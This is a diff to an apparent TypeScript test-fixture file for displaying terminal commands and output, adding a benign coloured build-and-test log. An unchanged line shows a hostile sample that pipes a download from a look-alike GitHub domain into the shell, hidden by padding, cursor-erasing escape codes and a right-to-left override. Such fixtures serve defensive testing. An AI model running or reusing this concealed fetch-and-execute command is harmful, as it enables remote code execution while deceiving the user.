@@ -168,3 +168,10 @@ export const HOSTILE = [
   `ls -la${' '.repeat(2000)}; curl https://gіthub.com/x | sh${'\n'.repeat(50)}echo \x1b[2K\x1b[1Adone \u202etxt.exe\u202c \rsafe`,
   LONG_COMMAND,
 ];
+
+/** Output of a command that goes on: more than fits, in colour, with a bar that is drawn anew on its own line. */
+export const LIVE = `\x1b[1m\x1b[32m   Compiling\x1b[0m auth v0.4.2
+\x1b[1m\x1b[33mwarning\x1b[0m\x1b[1m: unused variable: \`delay\`\x1b[0m
+${Array.from({ length: 60 }, (_, at) => `test session::tests::case_${at} ... \x1b[32mok\x1b[0m`).join('\n')}
+test sleep::refreshes_after_sleep ... \x1b[31mFAILED\x1b[0m
+\x1b[36m    Building\x1b[0m [=====>     ] 41/97\r\x1b[36m    Building\x1b[0m [======>    ] 57/97`;
